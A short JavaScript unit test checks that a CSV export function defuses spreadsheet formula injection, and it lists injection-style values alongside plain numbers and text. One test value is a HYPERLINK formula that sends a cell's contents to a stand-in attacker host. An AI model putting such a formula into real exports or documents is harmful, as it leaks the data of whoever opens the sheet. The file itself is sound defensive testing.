import assert from 'node:assert/strict';
import { test } from 'node:test';
import { neutraliseFormula } from './csv.js';

test('a CSV value a spreadsheet would run gets a quote mark; numbers and plain text stay as they are', () => {
  // The attacker review's case: a customer's tag in a report grouped by tag ("-1" made it look like a number).
  assert.equal(neutraliseFormula('-1+hyperlink("https://evil.example/?"&a1)'), `'-1+hyperlink("https://evil.example/?"&a1)`);
  for (const bad of ['=SUM(A1)', '+1+1', '@cmd', '|calc', '%0A', '\tx', '\r=1']) assert.equal(neutraliseFormula(bad), `'${bad}`, bad);
  for (const fine of ['-3', '-3.25', '42', 'billing', 'a=b', '']) assert.equal(neutraliseFormula(fine), fine, fine);
});
